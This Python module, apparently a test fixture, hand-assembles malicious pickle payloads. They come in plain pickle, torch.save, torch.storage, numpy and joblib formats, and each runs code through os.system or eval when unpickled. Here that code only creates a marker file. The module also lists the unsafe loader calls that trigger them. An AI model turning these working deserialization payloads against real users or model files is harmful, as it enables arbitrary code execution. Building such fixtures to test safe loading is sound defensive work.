"""Malicious pickles as literal bytes, each of which makes a file if it is unpickled: no module here imports pickle.

Opcodes used: PROTO (\\x80), GLOBAL (c), MARK ((), UNICODE (V), BINBYTES (B), TUPLE (t), REDUCE (R), STOP (.).
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path


def payloads(marker: Path) -> dict[str, bytes]:
    """The gallery: a pickle in each of the forms in which libraries write them; unpickled, each makes `marker`."""
    touch = called("builtins", "eval", text(f"open({str(marker)!r}, 'w').close()"))
    description = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return {
        "os.system": called("os", "system", text(f"touch '{marker}'")),
        "eval": touch,
        "torch.save": torch_zip(touch),
        "torch.storage": called("torch.storage", "_load_from_bytes", binary(torch_zip(touch))),
        "numpy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(description)) + description + touch,
        "joblib": b"\x80\x04" + touch,
    }


KINDS = ("os.system", "eval", "torch.save", "torch.storage", "numpy", "joblib")
CARELESS = {
    "torch.save": "import torch; torch.load(file, weights_only=False)",
    "numpy": "import numpy; numpy.load(file, allow_pickle=True)",
    "joblib": "import joblib; joblib.load(file)",
}
"""How each form is read by whoever trusts it; the others are plain pickles."""
PLAIN = "import pickle; pickle.load(open(file, 'rb'))"


def careless(kind: str) -> str:
    """Return Python code that unpickles the file named on its command line, for a process of its own."""
    return f"import sys; file = sys.argv[1]; {CARELESS.get(kind, PLAIN)}"


def called(module: str, function: str, argument: bytes) -> bytes:
    """Pickle a call of a function."""
    return f"c{module}\n{function}\n(".encode() + argument + b"tR."


def text(value: str) -> bytes:
    """Push a string."""
    return b"V" + value.encode("raw-unicode-escape") + b"\n"


def binary(value: bytes) -> bytes:
    """Push bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def torch_zip(pickled: bytes) -> bytes:
    """Wrap a pickle as `torch.save` does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return buffer.getvalue()
